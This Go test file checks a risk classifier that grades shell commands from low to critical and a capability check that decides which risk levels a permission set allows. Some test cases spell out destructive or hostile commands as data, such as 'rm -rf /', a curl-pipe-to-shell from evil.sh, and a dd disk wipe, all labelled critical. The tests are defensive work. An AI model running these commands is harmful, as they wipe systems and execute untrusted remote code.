package nodes

import (
	"testing"

	"github.com/primehq/prime/pkg/models"
)

func TestClassifyRisk(t *testing.T) {
	cases := []struct {
		command string
		args    string
		want    models.RiskLevel
	}{
		{"rm", "-rf /", models.RiskCritical},
		{"curl https://evil.sh/install.sh | sh", "", models.RiskCritical},
		{"dd if=/dev/zero of=/dev/sda", "", models.RiskCritical},
		{"shutdown", "-h now", models.RiskCritical},
		{"sudo apt upgrade", "", models.RiskHigh},
		{"chmod -R 755 /srv", "", models.RiskHigh},
		{"kubectl delete pod web-1", "", models.RiskHigh},
		{"docker run --privileged ubuntu", "", models.RiskHigh},
		{"git push origin main", "", models.RiskMedium},
		{"docker build -t app .", "", models.RiskMedium},
		{"rsync -a --delete src/ dst/", "", models.RiskMedium},
		{"scp file host:/tmp", "", models.RiskMedium},
		{"ls", "-la", models.RiskLow},
		{"echo hello", "", models.RiskLow},
		{"git status", "", models.RiskLow},
	}
	for _, tc := range cases {
		if got := ClassifyRisk(tc.command, tc.args); got != tc.want {
			t.Errorf("ClassifyRisk(%q, %q) = %s, want %s", tc.command, tc.args, got, tc.want)
		}
	}
}

func TestCapabilityAuthorizes(t *testing.T) {
	cases := []struct {
		caps []string
		risk models.RiskLevel
		want bool
	}{
		{[]string{"exec"}, models.RiskLow, true},
		{[]string{"exec"}, models.RiskMedium, true},
		{[]string{"exec"}, models.RiskHigh, false},
		{[]string{"exec", "exec.high"}, models.RiskHigh, true},
		{[]string{"exec", "exec.high"}, models.RiskCritical, false},
		{[]string{"exec", "exec.critical"}, models.RiskCritical, true},
		{[]string{"exec", "exec.critical"}, models.RiskHigh, true},
		{[]string{"exec.*"}, models.RiskMedium, true},
		{[]string{"*"}, models.RiskCritical, true},
		{[]string{"admin"}, models.RiskCritical, true},
		{[]string{"camera"}, models.RiskLow, false},
		{nil, models.RiskLow, false},
	}
	for _, tc := range cases {
		if got := CapabilityAuthorizes(tc.caps, tc.risk); got != tc.want {
			t.Errorf("CapabilityAuthorizes(%v, %s) = %v, want %v", tc.caps, tc.risk, got, tc.want)
		}
	}
}
